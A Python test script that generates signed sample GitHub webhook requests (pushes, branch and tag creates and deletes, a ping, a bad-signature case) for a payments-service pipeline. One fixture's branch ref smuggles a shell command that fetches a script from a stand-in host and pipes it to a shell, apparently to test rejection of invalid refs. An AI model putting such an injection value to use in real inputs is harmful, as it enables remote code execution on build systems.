#!/usr/bin/env python3
"""Regenerates the GitHub webhook samples in events/: each is a Lambda function URL request
(payload format 2.0) carrying a real GitHub payload, signed with the sample secret from
events/switchyard.env. Run it after editing a payload below: python3 tests/make-webhook-samples.py
"""
import base64, hashlib, hmac, json, pathlib

ROOT = pathlib.Path(__file__).resolve().parent.parent
SECRET = next(l.split("=", 1)[1].strip() for l in (ROOT / "events/switchyard.env").read_text().splitlines()
              if l.startswith("GITHUB_WEBHOOK_SECRET="))
ZERO = "0" * 40
SHA = "7f3c2a9e1b4d5f60718293a4b5c6d7e8f9012345"
REPO = {"id": 118, "name": "payments-service", "full_name": "acme/payments-service",
        "default_branch": "main", "private": True, "owner": {"login": "acme"}}
SENDER = {"login": "octocat", "id": 1}


def request(event, delivery, payload, *, secret=SECRET, base64_body=False, signature=None):
    body = json.dumps(payload, separators=(",", ":"))
    sig = signature or "sha256=" + hmac.new(secret.encode(), body.encode(), hashlib.sha256).hexdigest()
    headers = {
        "content-type": "application/json",
        "user-agent": "GitHub-Hookshot/5f2b1c3",
        "x-github-event": event,
        "x-github-delivery": delivery,
        "x-github-hook-id": "471929641",
        "x-hub-signature-256": sig,
    }
    return {
        "version": "2.0", "routeKey": "$default", "rawPath": "/", "rawQueryString": "",
        "headers": headers,
        "requestContext": {
            "accountId": "anonymous", "apiId": "abcdefghijklmnop",
            "domainName": "abcdefghijklmnop.lambda-url.eu-west-1.on.aws", "domainPrefix": "abcdefghijklmnop",
            "http": {"method": "POST", "path": "/", "protocol": "HTTP/1.1", "sourceIp": "140.82.115.1",
                     "userAgent": "GitHub-Hookshot/5f2b1c3"},
            "requestId": delivery, "routeKey": "$default", "stage": "$default",
            "time": "23/Nov/2026:09:12:44 +0000", "timeEpoch": 1795424564000,
        },
        "body": base64.b64encode(body.encode()).decode() if base64_body else body,
        "isBase64Encoded": base64_body,
    }


def push(ref, before, after, created, deleted, **extra):
    return {"ref": ref, "before": before, "after": after, "created": created, "deleted": deleted,
            "forced": False, "base_ref": None, "compare": "https://github.com/acme/payments-service/compare",
            "commits": [], "head_commit": None, "repository": REPO, "pusher": {"name": "octocat"},
            "sender": SENDER, **extra}


def write(path, obj):
    path = ROOT / "events" / path
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(obj, indent=2) + "\n")


BRANCH = {
    "github-push-branch-created.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d01",
        push("refs/heads/feature/PAY-142-refunds", ZERO, SHA, True, False)),
    "github-push-branch-deleted.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d02",
        push("refs/heads/feature/PAY-142-refunds", SHA, ZERO, False, True), base64_body=True),
    "github-create-branch.json": request("create", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d03",
        {"ref": "bugfix/ledger-rounding", "ref_type": "branch", "master_branch": "main",
         "description": None, "pusher_type": "user", "repository": REPO, "sender": SENDER}),
    "github-delete-branch.json": request("delete", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d04",
        {"ref": "bugfix/ledger-rounding", "ref_type": "branch", "pusher_type": "user",
         "repository": REPO, "sender": SENDER}),
    "github-ping.json": request("ping", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d05",
        {"zen": "Design for failure.", "hook_id": 471929641,
         "hook": {"type": "Repository", "id": 471929641, "active": True, "events": ["push", "create", "delete"],
                  "config": {"content_type": "json", "insecure_ssl": "0",
                             "url": "https://abcdefghijklmnop.lambda-url.eu-west-1.on.aws/"}},
         "repository": REPO, "sender": SENDER}),
    "github-bad-signature.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d06",
        push("refs/heads/feature/PAY-142-refunds", ZERO, SHA, True, False), secret="not-the-secret"),
    "github-push-default-branch.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d07",
        push("refs/heads/main", ZERO, SHA, True, False)),
    "github-push-excluded-branch.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d08",
        push("refs/heads/dependabot/npm_and_yarn/lodash-4.17.21", ZERO, SHA, True, False)),
    "github-push-invalid-ref.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d09",
        push("refs/heads/feature/..;$(curl evil.example|sh)", ZERO, SHA, True, False)),
    "github-issues-event.json": request("issues", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d10",
        {"action": "opened", "issue": {"number": 7, "title": "Refunds fail"}, "repository": REPO, "sender": SENDER}),
}

TAG_SHA = "c3d9e2a17b5f4e608d1c2b3a4f5e6d7c8b9a0f1e"
TAG = {
    # GitHub sets base_ref on a tag push when the tagged commit is the head of a branch.
    "github-push-tag.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a01",
        push("refs/tags/prod_eu-west-1/payments/2.4.0", ZERO, TAG_SHA, True, False, base_ref="refs/heads/main")),
    "github-push-tag-not-on-default-branch.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a02",
        push("refs/tags/prod_global/payments/2.4.1", ZERO, TAG_SHA, True, False,
             base_ref="refs/heads/feature/PAY-142-refunds")),
    "github-push-tag-invalid.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a03",
        push("refs/tags/prd_eu-west-1/payments/2.4.0", ZERO, TAG_SHA, True, False), base64_body=True),
    "github-create-tag.json": request("create", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a04",
        {"ref": "prod_eu-west-1/payments/2.4.0", "ref_type": "tag", "master_branch": "main",
         "description": None, "pusher_type": "user", "repository": REPO, "sender": SENDER}),
    # An ordinary tag (the `simple-tag` of GitHub's own example payloads): not a release tag.
    "github-push-ordinary-tag.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a06",
        push("refs/tags/simple-tag", ZERO, TAG_SHA, True, False)),
    "github-delete-tag.json": request("delete", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a05",
        {"ref": "dev_eu-west-1/payments/2.3.9", "ref_type": "tag", "pusher_type": "user",
         "repository": REPO, "sender": SENDER}),
}

if __name__ == "__main__":
    for name, obj in BRANCH.items():
        write(f"branch-pipelines/{name}", obj)
    print(f"wrote {len(BRANCH)} branch-pipelines webhook samples")
    for name, obj in TAG.items():
        write(f"tag-release/{name}", obj)
    print(f"wrote {len(TAG)} tag-release webhook samples")
